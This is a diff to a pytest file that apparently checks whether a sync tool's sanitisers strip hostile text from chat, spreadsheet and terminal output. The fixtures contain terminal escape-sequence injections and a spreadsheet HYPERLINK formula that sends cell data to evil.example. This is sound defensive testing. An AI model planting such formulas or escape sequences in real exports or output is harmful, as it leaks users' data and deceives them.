@@ -11,16 +11,14 @@ import csv
 import io
 from collections.abc import Iterator
 from pathlib import Path
-from typing import ClassVar
 
 import pytest
-from sqlalchemy import Engine
 
-from retsync.cli import main
 from retsync.connector import Page, PullContext, Stream
 from retsync.model import Customer
 from retsync.safe_text import for_chat, for_spreadsheet, for_terminal
 from tests.fakes import ScriptedConnector
+from tests.test_cli import BrokenConnector, _run, config_file  # noqa: F401 - config_file is a fixture
 
 CLEAR_SCREEN = "\x1b[2J\x1b[H"
 WINDOW_TITLE = "\x1b]0;pwned\x07"
@@ -31,18 +29,10 @@ HOSTILE = CLEAR_SCREEN + WINDOW_TITLE + HIDDEN_LINK + BIDI + C1_CSI
 FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Open invoice")'
 
 
-class HostileErrorConnector(ScriptedConnector):
-    name: ClassVar[str] = "hostile-errors"
-
-    def pull(self, stream: Stream, context: PullContext) -> Iterator[Page]:
-        raise RuntimeError(f"HTTP 500: {HOSTILE}")
-        yield  # pragma: no cover
-
-
 @pytest.fixture
-def hostile_config(tmp_path: Path, db: Engine, db_url: str, extra_connectors: dict) -> Path:
-    extra_connectors.update(scripted=ScriptedConnector, **{"hostile-errors": HostileErrorConnector})
-    ScriptedConnector.reset(4)
+def hostile_config(config_file: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """test_cli's two channels: `shop` with returns carrying hostile text, `market` failing with it."""
+    del ScriptedConnector.returns[4:]
     first, second, third = ScriptedConnector.returns[:3]
     ScriptedConnector.returns[0] = first.model_copy(update={
         "channel_reason": f"Too small {HOSTILE}", "channel_status": f"open{CLEAR_SCREEN}",
@@ -54,24 +44,12 @@ def hostile_config(tmp_path: Path, db: Engine, db_url: str, extra_connectors: di
     order = ScriptedConnector.orders["O0"]
     ScriptedConnector.orders["O0"] = order.model_copy(update={"lines": tuple(
         line.model_copy(update={"title": f"Lamp {HIDDEN_LINK}{BIDI}"}) for line in order.lines)})
-    path = tmp_path / "config.toml"
-    path.write_text(f"""
-[database]
-url = "{db_url}"
-[daemon]
-state_dir = "{tmp_path}"
-[channels.shop]
-connector = "scripted"
-[channels.market]
-connector = "hostile-errors"
-""")
-    return path
 
+    def fail(self: BrokenConnector, stream: Stream, context: PullContext) -> Iterator[Page]:
+        raise RuntimeError(f"HTTP 500: {HOSTILE}")
 
-def _run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
-    code = main(list(args))
-    out, err = capsys.readouterr()
-    return code, out, err
+    monkeypatch.setattr(BrokenConnector, "pull", fail)
+    return config_file
 
 
 def _no_control_characters(text: str) -> None:
